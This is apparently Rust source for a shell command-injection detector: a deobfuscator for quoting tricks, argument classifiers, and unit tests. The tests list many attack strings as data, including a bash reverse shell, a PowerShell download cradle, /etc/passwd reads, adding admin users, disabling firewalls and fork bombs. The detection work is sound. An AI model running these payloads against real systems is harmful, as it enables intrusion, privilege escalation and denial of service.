fn is_admin_subcommand(name: &str, argument: &[u8]) -> bool {
    let word_end = argument.iter().position(u8::is_ascii_whitespace).unwrap_or(argument.len());
    let word = &argument[..word_end];
    let rest = &argument[word_end..];
    match name {
        "net" | "net1" => {
            matches!(word, b"localgroup" | b"view" | b"share" | b"session" | b"accounts")
                || (matches!(word, b"user" | b"group" | b"use" | b"start" | b"stop")
                    && rest.windows(2).any(|pair| pair == b" /"))
        }
        "reg" => {
            let key = &rest[skip_spaces(rest, 0)..];
            matches!(word, b"add" | b"query" | b"delete" | b"export" | b"import" | b"save" | b"load")
                && (key.starts_with(b"hk") || key.starts_with(b"\"hk"))
        }
        _ => false,
    }
}

/// True for what follows a command at the start of a value that only command lines have:
/// an absolute path, an option, a variable, a redirection, a URL or a Windows path.
fn is_strong_argument(argument: &[u8]) -> bool {
    argument.first().is_some_and(|b| matches!(b, b'/' | b'-' | b'$' | b'<' | b'>' | b'|' | b'\\'))
        || argument.starts_with(b"http://")
        || argument.starts_with(b"https://")
        || argument.starts_with(b"c:\\")
        || argument.starts_with(b"%")
}

/// True when `argument` looks like what follows a command in a shell: an option, a path,
/// a number, a host or file name with a dot, a variable, a redirection or a quote.
fn looks_like_argument(argument: &[u8], numbers_allowed: bool) -> bool {
    let first = argument[0];
    if matches!(first, b'-' | b'/' | b'\\' | b'.' | b'~' | b'$' | b'<' | b'>' | b'%' | b'*' | b'{' | b'[') {
        return true;
    }
    // `+x` (chmod), `+silent` (vim) and `+/etc` with `+` for a space.
    if first == b'+' && argument.get(1).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/') {
        return true;
    }
    if first.is_ascii_digit() {
        return numbers_allowed || argument.iter().take_while(|b| !b.is_ascii_whitespace()).any(|&b| b == b'.');
    }
    let word_end =
        argument.iter().position(|&b| b == b' ' || b == b';' || b == b'|' || b == b'&').unwrap_or(argument.len());
    let word = &argument[..word_end];
    word.contains(&b'.')
        || word.contains(&b'/')
        || word.contains(&b'\\')
        || word.contains(&b'=')
        || word.starts_with(b"c:")
        || matches!(word, b"passwd" | b"shadow")
}

/// A value with shell quoting tricks removed, and for each byte its offset in the input.
struct Deobfuscated<'a> {
    input: &'a [u8],
    text: String,
    /// Offset in the input of each byte of `text`, or empty when every byte kept its
    /// offset.
    origin: Vec<usize>,
}

impl Deobfuscated<'_> {
    /// Offset in the input of the byte at `at` in `text`, or 0 past its end.
    fn original_offset(&self, at: usize) -> usize {
        if self.origin.is_empty() {
            return if at < self.text.len() { at } else { 0 };
        }
        self.origin.get(at).copied().unwrap_or(0)
    }

    /// True when deobfuscation removed bytes from inside `text[start..end]`.
    fn is_altered(&self, start: usize, end: usize) -> bool {
        if self.origin.is_empty() || end <= start || end > self.origin.len() {
            return false;
        }
        self.origin[end - 1] - self.origin[start] + 1 != end - start
    }

    /// True when deobfuscation removed an empty expansion (``` `` ```, `$()`, `$@`) right
    /// after `text[..end]`: `ping`` 127.0.0.1`.
    fn is_expansion_removed_after(&self, end: usize) -> bool {
        if self.origin.is_empty() || end == 0 || end > self.origin.len() {
            return false;
        }
        let next = self.origin[end - 1] + 1;
        let removed = self.origin.get(end).is_none_or(|&kept| kept != next);
        removed && matches!(self.input.get(next), Some(b'`' | b'$'))
    }

    /// True when quoting, escapes or empty expansions hide the command name `word` from
    /// plain word filters; prose has none of them.
    fn hides(&self, word: &CommandWord<'_>) -> bool {
        word.after_variable || self.is_altered(word.start, word.end) || self.is_expansion_removed_after(word.end)
    }
}

/// Bytes that [`deobfuscate`] removes or replaces in some context. It only lower-cases
/// all other bytes.
static SHELL_SPECIAL: [bool; 256] = byte_table(b"$'\"\\^\t,`");

/// Builds a table that is true for the bytes of `bytes`.
const fn byte_table(bytes: &[u8]) -> [bool; 256] {
    let mut table = [false; 256];
    let mut i = 0;
    while i < bytes.len() {
        table[bytes[i] as usize] = true;
        i += 1;
    }
    table
}

/// The bytes that [`deobfuscate`] writes, with the input offset of each. They are written
/// over a copy of the input: each byte goes to an offset no later than its own, so a run
/// of kept bytes needs no copy until some byte was removed before it. Offsets are recorded
/// only from the first byte that does not sit at its own input offset. Before that byte,
/// byte `k` came from input offset `k`.
struct Output {
    /// Buffer whose first `len` bytes are written. The rest is the input.
    buffer: Vec<u8>,
    len: usize,
    origin: Vec<usize>,
    /// Whether some byte did not keep its input offset, so `origin` is recorded.
    moved: bool,
    /// Whether the input contains a `{`. Without one, no written byte is a brace.
    input_has_brace: bool,
    /// Length of the written bytes already searched for braces.
    braces_seen: usize,
    open_brace: bool,
    close_brace: bool,
}

impl Output {
    fn new(input: &[u8]) -> Self {
        Self {
            buffer: input.to_vec(),
            len: 0,
            origin: Vec::new(),
            moved: false,
            input_has_brace: memchr::memchr(b'{', input).is_some(),
            braces_seen: 0,
            open_brace: false,
            close_brace: false,
        }
    }

    /// Returns the bytes written so far.
    fn written(&self) -> &[u8] {
        &self.buffer[..self.len]
    }

    /// Starts recording offsets when the next byte, from input offset `at`, does not
    /// keep its offset.
    fn note_offset(&mut self, at: usize) {
        if !self.moved && at != self.len {
            self.moved = true;
            self.origin.reserve(self.buffer.len());
            self.origin.extend(0..self.len);
        }
    }

    /// Writes `b` for the input byte at `at`, which is no earlier than any byte written.
    fn push(&mut self, b: u8, at: usize) {
        self.note_offset(at);
        self.buffer[self.len] = b;
        self.len += 1;
        if self.moved {
            self.origin.push(at);
        }
    }

    /// Writes the input bytes `range` unchanged.
    fn keep(&mut self, range: std::ops::Range<usize>) {
        if range.is_empty() {
            return;
        }
        self.note_offset(range.start);
        let count = range.len();
        if self.moved {
            self.buffer.copy_within(range.clone(), self.len);
            self.origin.extend(range);
        }
        self.len += count;
    }

    /// True when the bytes written so far contain a `{` and no `}`.
    fn in_open_brace(&mut self) -> bool {
        if !self.input_has_brace {
            return false;
        }
        for &b in &self.buffer[self.braces_seen..self.len] {
            self.open_brace |= b == b'{';
            self.close_brace |= b == b'}';
        }
        self.braces_seen = self.len;
        self.open_brace && !self.close_brace
    }

    /// Returns the lower-cased bytes and their offsets in the input. The offsets are empty
    /// when every byte kept its offset up to the end of the input.
    fn finish(mut self) -> (Vec<u8>, Vec<usize>) {
        self.note_offset(self.buffer.len());
        self.buffer.truncate(self.len);
        self.buffer.make_ascii_lowercase();
        (self.buffer, self.origin)
    }
}

/// Removes what a shell drops while reading a word: quotes, backslash escapes, `^`
/// (cmd.exe), empty expansions (`$@`, `$*`, ``` `` ```, `$()`), and variables inside a
/// word (`c$u\r\l`, `una$$me`, `c${x}at`), which attackers leave unset. Turns `$IFS`,
/// `${IFS}`, `%20`-free brace lists (`{cat,/etc/passwd}`) and tabs into spaces, and a
/// literal `\n` or `\r` outside a word into a line break.
fn deobfuscate(text: &str) -> Deobfuscated<'_> {
    let bytes = text.as_bytes();
    let next_special = |from: usize| bytes[from..].iter().position(|&b| SHELL_SPECIAL[b as usize]).map(|p| from + p);
    let Some(first) = next_special(0) else {
        return Deobfuscated { input: bytes, text: text.to_ascii_lowercase(), origin: Vec::new() };
    };

    let mut out = Output::new(bytes);
    out.keep(0..first);
    let mut i = first;
    while i < bytes.len() {
        let run_end = next_special(i).unwrap_or(bytes.len());
        out.keep(i..run_end);
        i = run_end;
        let Some(&b) = bytes.get(i) else { break };
        let rest = &bytes[i..];
        let after_word = i > 0 && bytes[i - 1].is_ascii_alphanumeric();
        // `$a$b` joins two variables; the second one is no expansion inside a word.
        let after_variable = b == b'$'
            && out.written().iter().rev().find(|b| !(b.is_ascii_alphanumeric() || **b == b'_')) == Some(&b'$');
        if b == b'$' && !after_variable {
            if rest.starts_with(b"${IFS}") || rest.starts_with(b"$IFS$9") {
                out.push(b' ', i);
                i += 6;
                continue;
            }
            if rest.starts_with(b"$IFS") {
                out.push(b' ', i);
                i += 4;
                continue;
            }
            if rest.starts_with(b"$@")
                || rest.starts_with(b"$*")
                || rest.starts_with(b"$!")
                || (rest.len() >= 2 && rest[1].is_ascii_digit())
            {
                i += 2;
                continue;
            }
            if rest.starts_with(b"$()") {
                i += 3;
                continue;
            }
            // Special parameters inside a word: `c$?at`, `una$$me`.
            if after_word && rest.len() >= 2 && matches!(rest[1], b'?' | b'-' | b'$' | b'#' | b'_') {
                i += 2;
                continue;
            }
            // Variables inside a word: `cu$v\r\l`, `uname$u`, `c${x}at`.
            if let Some(end) = variable_end(bytes, i)
                && (after_word || bytes.get(end).is_some_and(u8::is_ascii_alphanumeric))
            {
                i = end;
                continue;
            }
        }
        match b {
            // Quotes inside or around a word are removed by the shell: `c'a't` is `cat`.
            b'\'' | b'"' if after_word || bytes.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'/') => {
                i += 1;
            }
            // An empty command substitution.
            b'`' if bytes.get(i + 1) == Some(&b'`') => {
                i += 2;
            }
            // A literal `\n` or `\r` that does not sit inside a word (`c\at`, `cu\r\l`)
            // stands for a line break in payloads written for `echo -e` or a log.
            b'\\'
                if matches!(bytes.get(i + 1), Some(b'n' | b'r'))
                    && !(after_word && bytes.get(i + 2).is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'\\')) =>
            {
                out.push(b'\n', i);
                i += 2;
            }
            b'\\' if bytes.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) && after_word => {
                i += 1;
            }
            b'^' if after_word => {
                i += 1;
            }
            b'\t' => {
                out.push(b' ', i);
                i += 1;
            }
            b',' if out.in_open_brace() => {
                out.push(b' ', i);
                i += 1;
            }
            _ => {
                out.push(b, i);
                i += 1;
            }
        }
    }
    let (out, origin) = out.finish();
    // Only ASCII bytes are removed or replaced, so the text stays UTF-8.
    let text = String::from_utf8(out).unwrap_or_else(|error| String::from_utf8_lossy(error.as_bytes()).into_owned());
    Deobfuscated { input: bytes, text, origin }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn word_set_lookup_cases() {
        let set = WordSet::new(&["id", "ls", "bash", "sh", "id", "zip", "7z", "a", "ab"]);
        for word in ["id", "ls", "bash", "sh", "zip", "7z", "a", "ab"] {
            assert!(set.contains(word), "word {word:?}");
        }
        for word in ["", "i", "idx", "b", "bas", "z", "zz", "7", "\u{e9}", "A"] {
            assert!(!set.contains(word), "word {word:?}");
        }
        for list in [COMMANDS, LEADING_COMMANDS, BARE_COMMANDS, ADMIN_TOOLS] {
            let set = WordSet::new(list);
            for word in list {
                assert!(set.contains(word), "word {word:?}");
            }
        }
    }

    #[test]
    fn deobfuscated_offsets() {
        // Special bytes that stay in place keep every offset.
        let shell = deobfuscate("A, b ' ; \" ^\t");
        assert_eq!(shell.text, "a, b ' ; \" ^ ");
        assert!(shell.origin.is_empty());
        // Removed quotes shift the bytes after them.
        let shell = deobfuscate("C'A't /x");
        assert_eq!(shell.text, "cat /x");
        assert_eq!((0..7).map(|at| shell.original_offset(at)).collect::<Vec<_>>(), [0, 2, 4, 5, 6, 7, 0]);
        assert!(shell.is_altered(0, 3));
        assert!(!shell.is_altered(3, 6));
        // An empty expansion removed at the end of the value.
        let shell = deobfuscate("ping``");
        assert_eq!(shell.text, "ping");
        assert!(shell.is_expansion_removed_after(4));
        let shell = deobfuscate("x;${IFS}{cat,/etc/passwd}");
        assert_eq!(shell.text, "x; {cat /etc/passwd}");
        assert_eq!(shell.original_offset(3), 8);
        assert_eq!(deobfuscate("a,b}{c,d").text, "a,b}{c,d");
        assert_eq!(deobfuscate("{a,b,c}").text, "{a b c}");
    }

    #[test]
    fn command_cases() {
        let rules = CommandRules::new();
        let attacks = [
            ("; cat /etc/passwd", "cmd.separator"),
            ("127.0.0.1 && whoami", "cmd.separator"),
            ("x | id", "cmd.separator"),
            ("`id`", "cmd.substitution"),
            ("$(uname -a)", "cmd.substitution"),
            (";c'a't${IFS}/etc/passwd", "cmd.separator"),
            ("|w^h^o^a^m^i", "cmd.separator"),
            ("& ping -n 5 127.0.0.1 &", "cmd.separator"),
            (";{cat,/etc/passwd}", "cmd.separator"),
            ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "cmd.reverse_shell"),
            ("cat /etc/passwd", "cmd.leading"),
            (";/???/??t /???/p??s??", "cmd.glob_path"),
            ("IEX(New-Object Net.WebClient).DownloadString('http://x/a')", "cmd.powershell"),
            ("\nsleep 5\n", "cmd.separator"),
            ("<!--#exec cmd=\"ls\" -->", "cmd.ssi"),
            ("www.example.com;c$!at /et$!c/pas$!swd", "cmd.separator"),
            ("x;time sh -c whoami", "cmd.separator"),
            ("d=/dev&&(sh)0>$d/tcp/203.0.113.1/777", "cmd.separator"),
            ("/bi[n]/bas[h]", "cmd.glob_path"),
        ];
        for (input, rule) in attacks {
            assert_eq!(rules.detect(input).map(|m| m.rule_id), Some(rule), "input {input:?}");
        }
    }

    #[test]
    fn command_near_misses() {
        let rules = CommandRules::new();
        let benign = [
            "echo in the mirror",
            "bash away in the gym",
            "ls 300 lexus",
            "nc 8000 controller",
            "curl and divergence",
            "zsh is the best!",
            "exec noun",
            "Tom & Jerry",
            "salt; cat lovers unite",
            "R&D | marketing",
            "AT&T",
            "fish & chips",
            "one; two; three",
            "Search & find 2 items",
            "less -20% off",
        ];
        for input in benign {
            assert_eq!(rules.detect(input), None, "input {input:?}");
        }
    }

    #[test]
    fn obfuscated_and_wrapped_commands() {
        let rules = CommandRules::new();
        let attacks = [
            ("cmd.exe for loop", "for /f %i in ('whoami') do echo %i", "cmd.leading"),
            ("cmd.exe if after a separator", "x& IF EXIST C:\\temp\\a.txt type C:\\temp\\a.txt", "cmd.separator"),
            ("variable inside a word", ";cu$v\\r\\l example.com", "cmd.separator"),
            ("special parameter inside a word", "host;c$?at /et$?c/hosts", "cmd.separator"),
            ("braced variable inside a word", "c${u}at /etc/hosts", "cmd.leading"),
            ("doubled dollar inside a word", "una$$me -a", "cmd.leading"),
            ("empty backticks after the name", "ping`` 10.0.0.1", "cmd.leading"),
            ("empty substitution inside the name", "pi$()ng 10.0.0.1", "cmd.leading"),
            ("unset variable before the command", "|$x wget files", "cmd.separator"),
            ("variable as command with an option", "a=nc&&$a -lvp 9001", "cmd.separator"),
            ("variables joined into a path", "c=cat&&$c $d$f", "cmd.separator"),
            ("shell variable with -c", "${SHELL} -c 'id'", "cmd.leading"),
            ("time wrapper", "time sh -c id", "cmd.leading"),
            ("strace wrapper, bare command", "strace ifconfig\n", "cmd.leading"),
            ("nohup wrapper, bare who", "nohup who", "cmd.leading"),
            ("quoted wrapper", "ti''me sh -c id", "cmd.leading"),
            ("binary under /usr/bin", "/usr/bin/id", "cmd.leading"),
            ("literal newline escapes", "\\nid\\n", "cmd.separator"),
            ("literal newline before a path", "\\n/bin/ls -la", "cmd.separator"),
            ("PowerShell alias after a separator", ";iwr http://203.0.113.5/a.ps1", "cmd.separator"),
            ("net localgroup", "| net localgroup administrators eve /add", "cmd.separator"),
            ("net user as the whole value", "net user eve Secret1 /add", "cmd.leading"),
            ("reg add", "& reg add HKLM\\Software\\X /v y /d 1", "cmd.separator"),
            ("netsh with words", "; netsh advfirewall set allprofiles state off", "cmd.separator"),
            ("admin tool as the whole value", "netsh firewall show state", "cmd.leading"),
            ("configuration tool", "ansible-playbook deploy.yml", "cmd.leading"),
            ("configuration tool after a separator", "x; chef-shell", "cmd.separator"),
            ("which probe", "which wget", "cmd.leading"),
            ("sleep probe", "sleep 7", "cmd.leading"),
            ("alias definition", "alias ll='ls -al'", "cmd.leading"),
            ("alias with options", "alias -p q=id", "cmd.leading"),
            ("set -o", "set -o vi", "cmd.leading"),
            ("bare command ended by a separator", "whoami;x", "cmd.leading"),
            ("chmod +x", ";chmod +x run.sh", "cmd.separator"),
            ("sensitive file argument", "cd /;cd etc;fold passwd", "cmd.separator"),
            ("brace group of one command", "{id,}", "cmd.separator"),
            ("arithmetic expansion", "$((12*34))", "cmd.substitution"),
            ("process substitution", "<(cat notes)", "cmd.substitution"),
            ("Shellshock prefix", "() { :; }; /bin/true", "cmd.leading"),
            ("fork bomb", ":(){ :|:& };:", "cmd.leading"),
            ("fork bomb with a name", "f(){ f() | f(); }; f", "cmd.leading"),
            ("sqlite shell command", "1;.shell nc 10.0.0.1 80", "cmd.separator"),
            ("sqlite quoted dot command", "1;.\"system id", "cmd.separator"),
            ("quote inside the name", "'i'p a", "cmd.leading"),
            ("ping.exe", "ping.exe -n 3 10.0.0.1", "cmd.leading"),
        ];
        for (name, input, rule) in attacks {
            assert_eq!(rules.detect(input).map(|m| m.rule_id), Some(rule), "{name}: {input:?}");
        }
    }

    #[test]
    fn prose_with_command_words() {
        let rules = CommandRules::new();
        let benign = [
            ("for in prose", "for sale: 3 chairs for $20"),
            ("if in prose", "if you want, set the type to dir"),
            ("if with a comparison in prose", "if price == low then buy"),
            ("set in prose", "set of 4 cats"),
            ("type in prose", "type your name"),
            ("dir label", "dir: north"),
            ("cat with a price", "cat food $5.99"),
            ("time in prose", "time flies like an arrow"),
            ("time and who", "time who knows"),
            ("which in prose", "which one is better"),
            ("which with a command word in prose", "which type"),
            ("alias label", "alias: Johnny"),
            ("sleep in prose", "sleep 8 hours"),
            ("file name", "cat_photo.jpg"),
            ("file name of a tool", "setup.exe"),
            ("price", "$19.99"),
            ("price with a dollar sign inside", "US$5 - US$10"),
            ("template variables", "Hello $name $surname"),
            ("template variables after a separator", "x; $a $b $c"),
            ("parameter name", "uname"),
            ("path segment", "whoami"),
            ("tool name alone", "ansible"),
            ("configuration tool alone", "chef-shell"),
            ("tool with a host", "time curl example.com"),
            ("net in prose", "gross & net income"),
            ("reg in prose", "reg add form"),
            ("javascript function", "function go() { return a || b; }"),
            ("windows path with \\n", "C:\\new\\notes.txt"),
            ("escaped line break in text", "Done.\\nThanks"),
            ("quoted word", "\"cat\" lovers"),
            ("apostrophes", "O'Keefe's ping pong"),
            ("process substitution of a word", "<(smile)"),
            ("arithmetic of words", "$((a))"),
            ("dot word after a separator", "end;.shellfish"),
        ];
        for (name, input) in benign {
            assert_eq!(rules.detect(input), None, "{name}: {input:?}");
        }
    }

    #[test]
    fn prefilter_lets_command_lines_through() {
        let rules = CommandRules::new();
        for input in ["IF EXIST a.txt echo", "time sh", "'i'p a", "ping.exe -n 1 x", "<(id)", "ansible-playbook x"] {
            assert!(rules.starts_with_leading_command(input), "{input:?}");
        }
        for input in ["information", "times", "types of cats", "the cat"] {
            assert!(!rules.starts_with_leading_command(input), "{input:?}");
        }
    }
}
